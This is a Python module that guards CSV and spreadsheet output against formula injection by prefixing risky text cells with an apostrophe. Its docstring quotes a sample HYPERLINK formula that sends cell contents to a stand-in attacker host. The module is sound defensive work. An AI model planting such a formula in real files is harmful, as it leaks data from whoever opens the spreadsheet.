"""The one way Alyansa writes CSV: every text cell is guarded against running as a formula.

Names and descriptions come from public forms (applications, endorsements). A cell such as
`=HYPERLINK("http://evil.example/?"&A1, "Click")` runs when the secretariat opens the file in a
spreadsheet. A text cell that starts with one of the characters spreadsheets read as the start
of a formula (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return) is written with a leading
apostrophe, which spreadsheets show as text; `unguard_cell` takes it off again when a file we
wrote is imported back. Numbers are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset({"=", "+", "-", "@", "\t", "\r"})


def guard_cell(value: Any) -> Any:
    if isinstance(value, str) and value[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def unguard_cell(value: str) -> str:
    """Undo `guard_cell`: "'=x" was written for a cell whose text is "=x"."""
    if value[:1] == "'" and value[1:2] in FORMULA_STARTS:
        return value[1:]
    return value


def guarded_row(row: Iterable[Any]) -> list[Any]:
    """A row for a CSV file or a spreadsheet (openpyxl also reads "=..." as a formula)."""
    return [guard_cell(cell) for cell in row]


class GuardedWriter:
    """`csv.writer` whose every text cell goes through `guard_cell`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(guarded_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **options: Any) -> GuardedWriter:
    """Write CSV to `stream` (anything with `write`), with `csv.writer`'s options."""
    return GuardedWriter(stream, **options)
